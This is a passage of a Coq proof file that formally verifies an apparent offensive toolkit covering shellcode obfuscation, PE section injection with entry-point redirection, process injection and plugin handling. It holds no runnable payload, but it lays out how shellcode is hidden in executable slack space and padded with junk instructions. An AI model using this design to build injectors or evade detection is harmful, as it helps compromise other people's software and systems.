  - do 3 eexists. split; [reflexivity|]. split.
    + exists hooked, (Returned v). by split.
    + intros rt1'. unfold execute, execute_body. cbn [set_status status is_ready negb].
      destruct (error_handler_operation "execute"
                  ("工具 " +:+ name (ToolLifecycle.cls impl) +:+ " 状态不正确: "
                   +:+ status_str CLEANED) rt1')
        as (rt2 & d & Hd & _ & Hcode & _).
      exists rt2, d. cbn [status_str] in *. by rewrite Hd.
  - do 3 eexists. split; [reflexivity|]. split.
    + exists hooked, (Raised e). by split.
    + intros rt1'. unfold execute, execute_body.
      cbn [set_status set_error status is_ready negb].
      destruct (error_handler_operation "execute"
                  ("工具 " +:+ name (ToolLifecycle.cls impl) +:+ " 状态不正确: "
                   +:+ status_str ERROR) rt1')
        as (rt2 & d & Hd & _ & Hcode & _).
      exists rt2, d. cbn [status_str] in *. by rewrite Hd.
Qed.

(** A failure inside a tool's decorated method does not show in the tool's
    status.  [execute] on a ready obfuscator, PE injector or process
    injector with enough arguments (and a process id that [int] accepts)
    ends with status ready whether the method's body returned or raised;
    the tool is otherwise as the body left it, and what the body raised
    reaches the caller only as the structured error result. *)
Theorem tools_stay_ready_when_the_method_fails
    (now : Z) (a0 a1 a2 : PyVal) (rest : list PyVal) (kwargs : pydict PyVal)
    (t0 : Tool) (rt : Runtime) (calls : list Invocation)
    (obfuscate_body : PyVal -> PyVal -> Tool -> Runtime ->
                      Tool * Runtime * outcome PyVal)
    (pe_inject_body : PyVal -> PyVal -> PyVal -> Tool -> Runtime ->
                      Tool * Runtime * outcome PyVal)
    (parse : string -> outcome Z)
    (process_inject_body : Z -> PyVal -> Tool -> Runtime ->
                           Tool * Runtime * outcome PyVal) :
  let t := set_status READY t0 in
  (forall tb rtb r,
     obfuscate_body a0 a1 (handed_over now t) rt = (tb, rtb, r) ->
     exists rt' v,
       execute (obfuscator_tool obfuscate_body) now (a0 :: a1 :: rest) kwargs
               t rt calls
       = (set_status READY tb, rt',
          calls ++ [(handed_over now t, a0 :: a1 :: rest, kwargs)], Returned v) /\
       reported r v) /\
  (forall tb rtb r,
     pe_inject_body a0 a1 a2 (handed_over now t) rt = (tb, rtb, r) ->
     exists rt' v,
       execute (pe_injector_tool pe_inject_body) now (a0 :: a1 :: a2 :: rest)
               kwargs t rt calls
       = (set_status READY tb, rt',
          calls ++ [(handed_over now t, a0 :: a1 :: a2 :: rest, kwargs)],
          Returned v) /\
       reported r v) /\
  (forall pid tb rtb r,
     ProcessTool.py_int parse a0 = Returned pid ->
     process_inject_body pid a1 (handed_over now t) rt = (tb, rtb, r) ->
     exists rt' v,
       execute (process_injector_tool parse process_inject_body) now
               (a0 :: a1 :: rest) kwargs t rt calls
       = (set_status READY tb, rt',
          calls ++ [(handed_over now t, a0 :: a1 :: rest, kwargs)], Returned v) /\
       reported r v).
Proof.
  cbv zeta.
  assert (Hlen2 : forall x y (l : list PyVal), (len (x :: y :: l) <? 2) = false).
  { intros. unfold len. cbn [length]. apply Z.ltb_ge. lia. }
  assert (Hlen3 : forall x y z (l : list PyVal),
            (len (x :: y :: z :: l) <? 3) = false).
  { intros. unfold len. cbn [length]. apply Z.ltb_ge. lia. }
  split; [|split].
  - intros tb rtb r Hbody.
    destruct (decorated_returns "obfuscate" (obfuscate_body a0 a1) _ _ _ _ _ Hbody)
      as (rt' & v & Hdec & Hret & Hraise).
    unfold execute, execute_body.
    cbn [set_status status is_ready negb _execute obfuscator_tool].
    unfold ObfuscatorPasses._execute. rewrite Hlen2.
    fold (handed_over now (set_status READY t0)). rewrite Hdec.
    cbn [error_handler]. do 2 eexists. split; [reflexivity|].
    destruct r as [a|e]; cbn [reported]; [by apply Hret|].
    destruct (Hraise e eq_refl) as (_ & ? & ?). by split.
  - intros tb rtb r Hbody.
    destruct (decorated_returns "inject" (pe_inject_body a0 a1 a2) _ _ _ _ _ Hbody)
      as (rt' & v & Hdec & Hret & Hraise).
    unfold execute, execute_body.
    cbn [set_status status is_ready negb _execute pe_injector_tool].
    unfold PELayout._execute. rewrite Hlen3.
    fold (handed_over now (set_status READY t0)). rewrite Hdec.
    cbn [error_handler]. do 2 eexists. split; [reflexivity|].
    destruct r as [a|e]; cbn [reported]; [by apply Hret|].
    destruct (Hraise e eq_refl) as (_ & ? & ?). by split.
  - intros pid tb rtb r Hpid Hbody.
    destruct (decorated_returns "inject" (process_inject_body pid a1)
                _ _ _ _ _ Hbody)
      as (rt' & v & Hdec & Hret & Hraise).
    unfold execute, execute_body.
    cbn [set_status status is_ready negb _execute process_injector_tool].
    unfold ProcessTool._execute. rewrite Hlen2, Hpid.
    fold (handed_over now (set_status READY t0)). rewrite Hdec.
    cbn [error_handler]. do 2 eexists. split; [reflexivity|].
    destruct r as [a|e]; cbn [reported]; [by apply Hret|].
    destruct (Hraise e eq_refl) as (_ & ? & ?). by split.
Qed.

(** ** Reloading and unloading twice (plugins/plugin_manager.py) *)

Lemma unload_plugin_registered (name : string) (pm : PluginManager)
    (rt : Runtime) (cleanups : list string) :
  dict_mem name (plugins pm) = true ->
  exists pm1 rt1 cleanups1 unloaded,
    unload_plugin name pm rt cleanups
      = (pm1, rt1, cleanups1, Returned unloaded) /\
    truthy unloaded = true /\
    (unloaded = PyBool true ->
       plugins pm1 = dict_del name (plugins pm)) /\
    (_find_dependent_plugins pm name <> [] ->
       pm1 = pm /\ cleanups1 = cleanups /\
       py_getitem unloaded "status" = Returned (PyStr "error")).
Proof.
  intros Hmem. unfold dict_mem in Hmem.
  destruct (dict_get name (plugins pm)) as [plugin|] eqn:Hget; [|done].
  unfold unload_plugin, unload_plugin_body. rewrite Hget. unfold unload_try.
  destruct (_find_dependent_plugins pm name) as [|dep deps] eqn:Hdeps.
  - destruct (p_cleanup plugin (p_self plugin) rt) as [[self' rt1] [u|e]].
    + do 4 eexists. split; [reflexivity|]. by repeat split.
    + match goal with
      | |- context [error_handler ?f (Raised ?x) ?r] =>
          destruct (error_result_truthy f x r) as (rt2 & d & -> & Ht & Hs & _)
      end.
      do 4 eexists. split; [reflexivity|]. split; [done|]. split; [|done].
      intros ->. by cbn in Hs.
  - match goal with
    | |- context [error_handler ?f (Raised ?x) ?r] =>
        destruct (error_result_truthy f x r) as (rt2 & d & -> & Ht & Hs & _)
    end.
    do 4 eexists. split; [reflexivity|]. split; [done|]. split.
    + intros ->. by cbn in Hs.
    + by intros _.
Qed.

(** [reload_plugin] on a registered plugin always goes on to [load_plugin],
    whether the unloading succeeded or not: what [unload_plugin] returns is
    [True] or the structured error result, and both count as true.  In
    particular, when other plugins depend on the plugin, nothing is unloaded
    or cleaned up and [load_plugin] runs on the unchanged registry. *)
Theorem reload_plugin_loads_whatever_unload_did
    (load_plugin : PluginReload.Loader) (name : string) (pm : PluginManager)
    (rt : Runtime) (cleanups : list string)
    (loads : list (string * PluginManager)) :
  dict_mem name (plugins pm) = true ->
  exists pm1 rt1 cleanups1 unloaded,
    unload_plugin name pm rt cleanups
      = (pm1, rt1, cleanups1, Returned unloaded) /\
    PluginReload.reload_plugin_body load_plugin name pm rt cleanups loads
      = (let '(pm2, rt2, cleanups2, r) :=
           load_plugin name pm1 rt1 cleanups1 in
         (pm2, rt2, cleanups2, loads ++ [(name, pm1)], r)) /\
    (_find_dependent_plugins pm name <> [] ->
       pm1 = pm /\ cleanups1 = cleanups /\
       py_getitem unloaded "status" = Returned (PyStr "error")).
Proof.
  intros Hmem.
  destruct (unload_plugin_registered name pm rt cleanups Hmem)
    as (pm1 & rt1 & cleanups1 & unloaded & Hun & Htruthy & _ & Hdeps).
  exists pm1, rt1, cleanups1, unloaded. split; [done|]. split; [|done].
  unfold PluginReload.reload_plugin_body. by rewrite Hmem, Hun, Htruthy.
Qed.

Lemma reload_plugin_loads_whatever_unload_did_witness :
  exists pm1 rt1 cleanups1 unloaded,
    unload_plugin "A" two_plugins Runtime_init []
      = (pm1, rt1, cleanups1, Returned unloaded) /\
    PluginReload.reload_plugin_body idle_loader "A" two_plugins Runtime_init [] []
      = (let '(pm2, rt2, cleanups2, r) := idle_loader "A" pm1 rt1 cleanups1 in
         (pm2, rt2, cleanups2, [] ++ [("A", pm1)], r)) /\
    (_find_dependent_plugins two_plugins "A" <> [] ->
       pm1 = two_plugins /\ cleanups1 = [] /\
       py_getitem unloaded "status" = Returned (PyStr "error")).
Proof.
  apply (reload_plugin_loads_whatever_unload_did idle_loader "A" two_plugins).
  reflexivity.
Defined.

(** Unloading is not repeated.  Once [unload_plugin] has returned [True]
    for a plugin, a second call for the same name returns [False] and
    changes nothing: no [cleanup] runs again. *)
Theorem unload_plugin_second_time (name : string) (pm pm1 : PluginManager)
    (rt rt1 : Runtime) (cleanups cleanups1 : list string) :
  NoDup (dict_keys (plugins pm)) ->
  unload_plugin name pm rt cleanups
    = (pm1, rt1, cleanups1, Returned (PyBool true)) ->
  forall rt2 cleanups2,
    unload_plugin name pm1 rt2 cleanups2
      = (pm1, rt2, cleanups2, Returned (PyBool false)).
Proof.
  intros Hnd Hfirst rt2 cleanups2.
  assert (Hgone : dict_get name (plugins pm1) = None).
  { destruct (dict_mem name (plugins pm)) eqn:Hmem.
    - destruct (unload_plugin_registered name pm rt cleanups Hmem)
        as (pm1' & rt1' & cleanups1' & unloaded & Hun & _ & Hdel & _).
      rewrite Hfirst in Hun. simplify_eq.
      rewrite Hdel by done. by apply dict_get_del_eq.
    - unfold unload_plugin, unload_plugin_body in Hfirst.
      unfold dict_mem in Hmem.
      destruct (dict_get name (plugins pm)); [done|].
      cbn in Hfirst. by simplify_eq. }
  unfold unload_plugin, unload_plugin_body. by rewrite Hgone.
Qed.

Lemma unload_plugin_second_time_witness :
  unload_plugin "B"
    (unload_plugin "B" two_plugins Runtime_init []).1.1.1 Runtime_init []
  = ((unload_plugin "B" two_plugins Runtime_init []).1.1.1,
     Runtime_init, [], Returned (PyBool false)).
Proof.
  assert (Hnd : NoDup (dict_keys (plugins two_plugins))) by compute_done.
  exact (unload_plugin_second_time "B" two_plugins _ Runtime_init _ [] _
           Hnd eq_refl Runtime_init []).
Defined.

(** ** Junk instructions (tools/obfuscator.py) *)

Lemma junk_bytes_spec (j : ObfuscatorPasses.Junk) :
  Forall byte (ObfuscatorPasses.junk_bytes j) /\
  1 <= len (ObfuscatorPasses.junk_bytes j) <= 5.
Proof.
  destruct j; (split; [repeat constructor; unfold byte; lia|]);
    unfold len; cbn; lia.
Qed.

Lemma junk_loop (choice : nat -> ObfuscatorPasses.Junk) (data : list Z) :
  forall (s : Z) (acc : list Z) (drawn : nat),
    0 <= s -> Forall byte data ->
    exists out drawn',
      foldM (ObfuscatorPasses.junk_step choice)
            (zip (seqZ s (len data)) data) (acc, drawn)
        = Returned (acc ++ out, drawn') /\
      data `sublist_of` out /\
      Forall byte out /\
      Z.of_nat drawn'
        = Z.of_nat drawn + ((s + len data + 4) / 5 - (s + 4) / 5) /\
      len data + (Z.of_nat drawn' - Z.of_nat drawn) <= len out
        <= len data + 5 * (Z.of_nat drawn' - Z.of_nat drawn).
Proof.
  induction data as [|b data IH]; intros s acc drawn Hs Hdata.
  - exists [], drawn. change (len (@nil Z)) with 0.
    rewrite Z.add_0_r, Z.sub_diag. cbn. rewrite app_nil_r.
    split; [done|]. split; [constructor|]. split; [constructor|]. lia.
  - apply Forall_cons in Hdata as [Hb Hdata].
    rewrite seqZ_cons_len. cbn [zip zip_with foldM].
    cbn [ObfuscatorPasses.junk_step]. unfold bytearray_append.
    rewrite is_byte_true by done. cbn [mbind outcome_bind].
    assert (Hlen : len (b :: data) = len data + 1)
      by (unfold len; cbn [length]; lia).
    destruct (Z.eqb_spec (s mod 5) 0) as [Hdiv|Hdiv]; cbn [mbind outcome_bind].
    + destruct (IH (s + 1) ((acc ++ [b]) ++ ObfuscatorPasses.junk_bytes (choice drawn))
                   (S drawn) ltac:(lia) Hdata)
        as (out & drawn' & Hloop & Hsub & Hbytes & Hcount & Hsize).
      destruct (junk_bytes_spec (choice drawn)) as [Hjb Hjl].
      exists (b :: ObfuscatorPasses.junk_bytes (choice drawn) ++ out), drawn'.
      split; [rewrite Hloop; by rewrite <- !app_assoc|].
      split; [apply sublist_skip; by apply sublist_inserts_l|].
      split; [apply Forall_cons; split; [done|]; by apply Forall_app|].
      rewrite Hlen. unfold len in *. rewrite length_cons, length_app.
      split; [|split]; Z.div_mod_to_equations; lia.
    + destruct (IH (s + 1) (acc ++ [b]) drawn ltac:(lia) Hdata)
        as (out & drawn' & Hloop & Hsub & Hbytes & Hcount & Hsize).
      exists (b :: out), drawn'.
      split; [rewrite Hloop; by rewrite <- !app_assoc|].
      split; [by apply sublist_skip|].
      split; [by apply Forall_cons|].
      rewrite Hlen. unfold len in *. rewrite length_cons.
      split; [|split]; Z.div_mod_to_equations; lia.
Qed.

(** [_add_junk_code] only inserts: on bytes it always succeeds, the input is
    a subsequence of the result (deleting bytes from the result gives the
    input back), and the result is longer by the junk drawn, one
    instruction of one to five bytes for every fifth byte of the input. *)
Theorem add_junk_code_only_inserts
    (choice : nat -> ObfuscatorPasses.Junk) (data : list Z) (rt : Runtime) :
  Forall byte data ->
  exists out,
    ObfuscatorPasses._add_junk_code choice data rt = (rt, Returned out) /\
    data `sublist_of` out /\
    len data + junk_draws (len data) <= len out
      <= len data + 5 * junk_draws (len data).
Proof.
  intros Hdata.
  destruct (junk_loop choice data 0 [] O ltac:(lia) Hdata)
    as (out & drawn' & Hloop & Hsub & Hbytes & Hcount & Hsize).
  exists out. unfold ObfuscatorPasses._add_junk_code, enumerate.
  rewrite Hloop. cbn [mbind outcome_bind app].
  rewrite bytes_of_ok by done. split; [done|]. split; [done|].
  unfold junk_draws. cbn in Hcount.
  replace (0 + len data + 4) with (len data + 4) in Hcount by lia.
  change ((0 + 4) / 5) with 0 in Hcount. lia.
Qed.

Lemma add_junk_code_only_inserts_witness :
  exists out,
    ObfuscatorPasses._add_junk_code (λ _, ObfuscatorPasses.NOP)
      [0x31; 0xC0; 0x40; 0x48; 0xC3; 0x90] Runtime_init
      = (Runtime_init, Returned out) /\
    [0x31; 0xC0; 0x40; 0x48; 0xC3; 0x90] `sublist_of` out /\
    len [0x31; 0xC0; 0x40; 0x48; 0xC3; 0x90]
      + junk_draws (len [0x31; 0xC0; 0x40; 0x48; 0xC3; 0x90]) <= len out
      <= len [0x31; 0xC0; 0x40; 0x48; 0xC3; 0x90]
         + 5 * junk_draws (len [0x31; 0xC0; 0x40; 0x48; 0xC3; 0x90]).
Proof.
  apply add_junk_code_only_inserts.
  repeat constructor; unfold byte; lia.
Defined.

(** ** Writing the obfuscated file (tools/obfuscator.py) *)

Section Quiet.
Variable env : ObfuscatorPasses.Env.

Lemma quiet_ret {A} (a : A) : quiet (ObfuscatorPasses.ret a).
Proof. by intros s. Qed.

Lemma quiet_raise {A} c msg : quiet (@ObfuscatorPasses.raise A c msg).
Proof. by intros s. Qed.

Lemma quiet_lift {A} (r : outcome A) : quiet (ObfuscatorPasses.lift r).
Proof. by intros s. Qed.

Lemma quiet_bind {A B} (m : ObfuscatorPasses.M A) (k : A -> ObfuscatorPasses.M B) :
  quiet m -> (forall a, quiet (k a)) -> quiet (ObfuscatorPasses.bindM m k).
Proof.
  intros Hm Hk s. unfold ObfuscatorPasses.bindM.
  specialize (Hm s). destruct (m s) as [s1 [a|e]]; cbn [fst] in *.
  - by rewrite Hk.
  - done.
Qed.

Lemma quiet_pass {A} (f : Runtime -> Runtime * outcome A) :
  quiet (ObfuscatorPasses.pass f).
Proof.
  intros s. unfold ObfuscatorPasses.pass.
  by destruct (f (ObfuscatorPasses.rt s)).
Qed.

Lemma quiet_try_log {A} ctx (body : ObfuscatorPasses.M A) :
  quiet body -> quiet (ObfuscatorPasses.try_log ctx body).
Proof.
  intros Hb s. unfold ObfuscatorPasses.try_log. specialize (Hb s).
  by destruct (body s) as [s1 [a|e]].
Qed.

Lemma quiet_update_progress c t msg :
  quiet (ObfuscatorPasses.update_progress env c t msg).
Proof. by intros s. Qed.

Lemma quiet_config_at config a b : quiet (ObfuscatorPasses.config_at config a b).
Proof. by intros s. Qed.

Ltac quiet :=
  repeat first
    [ apply quiet_try_log
    | apply quiet_bind; [|intros ?]
    | apply quiet_ret
    | apply quiet_raise
    | apply quiet_lift
    | apply quiet_pass
    | apply quiet_update_progress
    | apply quiet_config_at
    | match goal with
      | |- quiet (if ?c then _ else _) => destruct c
      end ].

Lemma quiet_obfuscate_shellcode config draws data :
  quiet (ObfuscatorPasses._obfuscate_shellcode env config draws data).
Proof. unfold ObfuscatorPasses._obfuscate_shellcode. quiet. Qed.

End Quiet.

(** [obfuscate] touches no file but the output file, and that one last.
    The body never returns [False].  It returns [True] only after one
    write, completed, of a non-empty result to the output path.  When it
    raises, either no file was written to, or the failure is that of the
    write of the result itself: the output file, opened and thereby emptied,
    is left with what that write put there. *)
Theorem obfuscate_touches_only_the_output_file
    (env : ObfuscatorPasses.Env) (config : PyVal)
    (draws : ObfuscatorPasses.Draws) (input_file output_file : string)
    (s : ObfuscatorPasses.State) :
  exists s' r,
    ObfuscatorPasses.obfuscate_body env config draws input_file output_file s
      = (s', r) /\
    ((r = Returned true /\
      exists result,
        result <> [] /\
        ObfuscatorPasses.write_file env output_file result = Returned tt /\
        ObfuscatorPasses.written s'
          = ObfuscatorPasses.written s ++ [(output_file, result)]) \/
     (exists e,
        r = Raised e /\
        (ObfuscatorPasses.written s' = ObfuscatorPasses.written s \/
         exists result partial,
           result <> [] /\
           ObfuscatorPasses.write_file env output_file result = Raised e /\
           ObfuscatorPasses.left_behind env output_file result = Some partial /\
           ObfuscatorPasses.written s'
             = ObfuscatorPasses.written s ++ [(output_file, partial)]))).
Proof.
  unfold ObfuscatorPasses.obfuscate_body, ObfuscatorPasses.try_log.
  destruct (ObfuscatorPasses.path_exists env input_file); cbn [negb].
  2:{ do 2 eexists. split; [reflexivity|]. right. eexists. split; [done|by left]. }
  unfold ObfuscatorPasses.bindM at 1. unfold ObfuscatorPasses.lift at 1.
  destruct (ObfuscatorPasses.read_file env input_file) as [data|e].
  2:{ do 2 eexists. split; [reflexivity|]. right. eexists. split; [done|by left]. }
  unfold ObfuscatorPasses.bindM at 1.
  unfold ObfuscatorPasses.update_progress at 1.
  set (s0 := ObfuscatorPasses.MkState _ _ _ _).
  assert (Hs0 : ObfuscatorPasses.written s0 = ObfuscatorPasses.written s) by done.
  clearbody s0.
  unfold ObfuscatorPasses.bindM at 1.
  unfold ObfuscatorPasses.config_at, ObfuscatorPasses.lift at 1.
  destruct (section ← py_getitem config "obfuscation";
            py_getitem section "target_type") as [target|e].
  2:{ do 2 eexists. split; [reflexivity|]. right. eexists. split; [done|by left]. }
  unfold ObfuscatorPasses.bindM at 1.
  set (stage := if py_eq target (PyStr "shellcode") then _ else _).
  assert (Hquiet : quiet stage).
  { unfold stage. destruct (py_eq target (PyStr "shellcode"));
      [apply quiet_obfuscate_shellcode|].
    destruct (py_eq target (PyStr "pe")); apply quiet_ret. }
  specialize (Hquiet s0). clearbody stage.
  destruct (stage s0) as [s1 [result|e]]; cbn [fst] in Hquiet.
  2:{ do 2 eexists. split; [reflexivity|]. right. eexists. split; [done|].
      left. cbn. congruence. }
  destruct result as [|b result].
  { do 2 eexists. split; [reflexivity|]. right. eexists. split; [done|].
    left. cbn. congruence. }
  unfold ObfuscatorPasses.bindM, ObfuscatorPasses.update_progress,
    ObfuscatorPasses.save, ObfuscatorPasses.ret.
  cbn [ObfuscatorPasses.written ObfuscatorPasses.rt ObfuscatorPasses.progress
       ObfuscatorPasses.ticks].
  destruct (ObfuscatorPasses.write_file env output_file (b :: result))
    as [[]|e] eqn:Hwrite.
  - do 2 eexists. split; [reflexivity|]. left. split; [done|].
    exists (b :: result). split; [done|]. split; [done|]. cbn. congruence.
  - destruct (ObfuscatorPasses.left_behind env output_file (b :: result))
      as [partial|] eqn:Hleft.
    + do 2 eexists. split; [reflexivity|]. right. exists e. split; [done|].
      right. exists (b :: result), partial.
      split; [done|]. split; [done|]. split; [done|]. cbn. congruence.
    + do 2 eexists. split; [reflexivity|]. right. exists e. split; [done|].
      left. cbn. congruence.
Qed.

(** For a target type other than ["shellcode"] nothing is obfuscated: the
    output file gets the bytes of the input file as they are (for an input
    that is not empty), and nothing is logged. *)
Theorem obfuscate_copies_other_targets
    (env : ObfuscatorPasses.Env) (config target : PyVal)
    (draws : ObfuscatorPasses.Draws) (input_file output_file : string)
    (data : list Z) (s : ObfuscatorPasses.State) :
  ObfuscatorPasses.path_exists env input_file = true ->
  ObfuscatorPasses.read_file env input_file = Returned data ->
  data <> [] ->
  (section ← py_getitem config "obfuscation"; py_getitem section "target_type")
    = Returned target ->
  py_eq target (PyStr "shellcode") = false ->
  ObfuscatorPasses.write_file env output_file data = Returned tt ->
  exists s',
    ObfuscatorPasses.obfuscate_body env config draws input_file output_file s
      = (s', Returned true) /\
    ObfuscatorPasses.written s'
      = ObfuscatorPasses.written s ++ [(output_file, data)] /\
    ObfuscatorPasses.rt s' = ObfuscatorPasses.rt s.
Proof.
  intros Hexists Hread Hdata Htarget Hother Hwrite.
  unfold ObfuscatorPasses.obfuscate_body, ObfuscatorPasses.try_log,
    ObfuscatorPasses.bindM, ObfuscatorPasses.config_at,
    ObfuscatorPasses.lift, ObfuscatorPasses.update_progress,
    ObfuscatorPasses.ret, ObfuscatorPasses.save.
  rewrite Hexists. cbn [negb]. rewrite Hread. cbn [negb].
  rewrite Htarget. cbn [negb]. rewrite Hother.
  destruct (py_eq target (PyStr "pe"));
    unfold ObfuscatorPasses._obfuscate_pe, ObfuscatorPasses._obfuscate_script;
    (destruct data as [|b data]; [done|]);
    cbn [ObfuscatorPasses.written ObfuscatorPasses.rt ObfuscatorPasses.progress
         ObfuscatorPasses.ticks];
    rewrite Hwrite; by eexists.
Qed.

Lemma obfuscate_copies_other_targets_witness :
  exists s',
    ObfuscatorPasses.obfuscate_body mz_world pe_target fixed_draws
      "in.bin" "out.bin" at_rest = (s', Returned true) /\
    ObfuscatorPasses.written s'
      = ObfuscatorPasses.written at_rest ++ [("out.bin", [0x4D; 0x5A])] /\
    ObfuscatorPasses.rt s' = ObfuscatorPasses.rt at_rest.
Proof.
  apply (obfuscate_copies_other_targets mz_world pe_target (PyStr "pe"));
    (reflexivity || discriminate).
Defined.

(** ** Section injection (tools/pe_injector.py) *)

(** Overwriting [patch] at offset [off] of [data], as the slices do it. *)
Lemma splice_spec (data patch : list Z) (off : Z) :
  0 <= off -> off + len patch <= len data ->
  let out := slice_to off data ++ patch ++ slice_from (off + len patch) data in
  length out = length data /\
  take (length patch) (drop (Z.to_nat off) out) = patch /\
  take (Z.to_nat off) out = take (Z.to_nat off) data /\
  forall q : nat,
    (Z.of_nat q < off \/ off + len patch <= Z.of_nat q) ->
    out !! q = data !! q.
Proof.
  intros Hoff Hfit. unfold slice_to, slice_from, clip, len in *.
  destruct (Z.ltb_spec off 0) as [|_]; [lia|].
  destruct (Z.ltb_spec (off + Z.of_nat (length patch)) 0) as [|_]; [lia|].
  rewrite !Z.min_l by lia.
  set (o := Z.to_nat off).
  replace (Z.to_nat (off + Z.of_nat (length patch))) with (o + length patch)%nat
    by lia.
  assert (Ho : (o + length patch <= length data)%nat) by lia.
  cbv zeta. split; [|split; [|split]].
  - rewrite !length_app, length_take, length_drop. lia.
  - rewrite drop_app_length' by (rewrite length_take; lia).
    by rewrite take_app_length.
  - rewrite take_app_length' by (rewrite length_take; lia). done.
  - intros q [Hq|Hq].
    + rewrite lookup_app_l by (rewrite length_take; lia).
      apply lookup_take_lt. lia.
    + rewrite lookup_app_r by (rewrite length_take; lia).
      rewrite length_take, Nat.min_l by lia.
      rewrite lookup_app_r by lia.
      rewrite lookup_drop. f_equal. lia.
Qed.

Lemma find_target_spec (shellcode : list Z) (secs : list PELayout.Section)
    (start i : nat) (target : PELayout.Section) :
  PELayout.find_target shellcode secs start = Some (i, target) ->
  (start <= i)%nat /\
  secs !! (i - start)%nat = Some target /\
  Z.land (PELayout.Characteristics target) 0x20000000 <> 0 /\
  PELayout.Misc_VirtualSize target + len shellcode
    <= PELayout.SizeOfRawData target /\
  forall (j : nat) earlier,
    (j < i - start)%nat -> secs !! j = Some earlier ->
    Z.land (PELayout.Characteristics earlier) 0x20000000 = 0 \/
    PELayout.SizeOfRawData earlier
      < PELayout.Misc_VirtualSize earlier + len shellcode.
Proof.
  revert start. induction secs as [|section secs IH]; intros start; [done|].
  cbn [PELayout.find_target].
  destruct (negb _ && _) eqn:Hfit.
  - intros [= <- <-]. apply andb_true_iff in Hfit as [Hexec Hroom].
    apply negb_true_iff, Z.eqb_neq in Hexec. apply Z.leb_le in Hroom.
    rewrite Nat.sub_diag. split_and!; [done..|]. intros j earlier Hj. lia.
  - intros Hfind.
    destruct (IH (S start) Hfind) as (Hle & Hlook & ? & ? & Hearlier).
    split; [lia|]. split_and!; [|done|done|].
    + replace (i - start)%nat with (S (i - S start)) by lia. done.
    + intros [|j] earlier Hj Hlookj.
      * cbn in Hlookj. injection Hlookj as <-.
        apply andb_false_iff in Hfit as [Hexec|Hroom].
        -- left. by apply negb_false_iff, Z.eqb_eq in Hexec.
        -- right. apply Z.leb_gt in Hroom. lia.
      * cbn in Hlookj. apply (Hearlier j); [lia|done].
Qed.

Lemma return_jump_length (from_addr to_addr : Z) (jmp : list Z) :
  _create_return_jump from_addr to_addr = Returned jmp -> len jmp = 5.
Proof.
  unfold _create_return_jump, to_bytes_little_signed.
  destruct (_ && _); [|done]. cbn. by intros [= <-].
Qed.

(** [_inject_existing_section], when it returns [True].  The target is the
    first executable section with room for the shellcode between its
    virtual size and its raw size: every section before it in the table is
    not executable or has less room.  The jump back is not counted in that
    room, nor in the virtual size, which grows by the length of the
    shellcode only.  The entry point becomes the address just past the
    section's old content.  When the write lies within the file, the file
    keeps its length, holds the shellcode and the jump from the section's old
    end on, and is unchanged everywhere else. *)
Theorem inject_existing_section_footprint
    (config : PyVal) (pe pe' : PELayout.Image) (shellcode : list Z)
    (rt rt' : Runtime) :
  PELayout._inject_existing_section config pe shellcode rt = (pe', rt', true) ->
  exists (i : nat) target jmp,
    PELayout.sections pe !! i = Some target /\
    Z.land (PELayout.Characteristics target) 0x20000000 <> 0 /\
    PELayout.Misc_VirtualSize target + len shellcode
      <= PELayout.SizeOfRawData target /\
    (forall (j : nat) earlier,
       (j < i)%nat -> PELayout.sections pe !! j = Some earlier ->
       Z.land (PELayout.Characteristics earlier) 0x20000000 = 0 \/
       PELayout.SizeOfRawData earlier
         < PELayout.Misc_VirtualSize earlier + len shellcode) /\
    (jmp = [] \/ len jmp = 5) /\
    PELayout.sections pe'
      = <[i := PELayout.grow (len shellcode) target]> (PELayout.sections pe) /\
    PELayout.AddressOfEntryPoint pe'
      = PELayout.VirtualAddress target + PELayout.Misc_VirtualSize target /\
    rt' = rt /\
    let off := PELayout.PointerToRawData target
               + PELayout.Misc_VirtualSize target in
    (0 <= off -> off + len (shellcode ++ jmp) <= len (PELayout.__data__ pe) ->
       length (PELayout.__data__ pe') = length (PELayout.__data__ pe) /\
       take (length (shellcode ++ jmp))
            (drop (Z.to_nat off) (PELayout.__data__ pe'))
         = shellcode ++ jmp /\
       forall q : nat,
         (Z.of_nat q < off \/ off + len (shellcode ++ jmp) <= Z.of_nat q) ->
         PELayout.__data__ pe' !! q = PELayout.__data__ pe !! q).
Proof.
  unfold PELayout._inject_existing_section,
    PELayout.inject_existing_section_try.
  destruct (PELayout.find_target shellcode (PELayout.sections pe) 0)
    as [[i target]|] eqn:Hfind; [|done].
  destruct (find_target_spec _ _ _ _ _ Hfind)
    as (_ & Hlook & Hexec & Hroom & Hfirst).
  rewrite Nat.sub_0_r in Hlook, Hfirst.
  destruct (PELayout.preserve_entry config) as [preserve|e]; [|done].
  cbn [mbind outcome_bind].
  set (off := PELayout.PointerToRawData target
              + PELayout.Misc_VirtualSize target).
  destruct (truthy preserve).
  - destruct (_create_return_jump _ _) as [jmp|e] eqn:Hjmp; [|done].
    cbn [mbind outcome_bind]. intros [= <- <-].
    exists i, target, jmp. split; [done|]. split; [done|]. split; [done|].
    split; [done|].
    split; [right; by eapply return_jump_length|].
    split; [done|]. split; [cbn; lia|]. split; [done|].
    cbn [PELayout.__data__]. intros Hoff Hfit.
    assert (Hlen : len (shellcode ++ jmp) = len shellcode + len jmp)
      by (unfold len; rewrite length_app; lia).
    fold off in Hoff, Hfit |- *.
    replace (off + len shellcode + len jmp)
      with (off + len (shellcode ++ jmp)) by lia.
    rewrite (app_assoc shellcode jmp).
    by destruct (splice_spec (PELayout.__data__ pe) (shellcode ++ jmp)
                   off Hoff Hfit) as (? & ? & _ & ?).
  - cbn [mbind outcome_bind]. intros [= <- <-].
    exists i, target, []. split; [done|]. split; [done|]. split; [done|].
    split; [done|].
    split; [by left|]. split; [done|]. split; [cbn; lia|]. split; [done|].
    cbn [PELayout.__data__]. rewrite app_nil_r. intros Hoff Hfit.
    fold off in Hoff, Hfit |- *.
    by destruct (splice_spec (PELayout.__data__ pe) shellcode off Hoff Hfit)
      as (? & ? & _ & ?).
Qed.

Lemma inject_existing_section_footprint_witness :
  exists (i : nat) target jmp,
    PELayout.sections two_section_image !! i = Some target /\
    i = 1%nat /\ target = spare_section /\
    jmp = [0xE9; 0xF5; 0xEF; 0xFF; 0xFF] /\
    PELayout.__data__
      (PELayout._inject_existing_section keep_entry two_section_image
         tiny_shellcode Runtime_init).1.1
    = replicate 20 0x90 ++ tiny_shellcode ++ jmp ++ replicate 13 0x90.
Proof.
  destruct (inject_existing_section_footprint keep_entry two_section_image
              (PELayout._inject_existing_section keep_entry two_section_image
                 tiny_shellcode Runtime_init).1.1
              tiny_shellcode Runtime_init Runtime_init eq_refl)
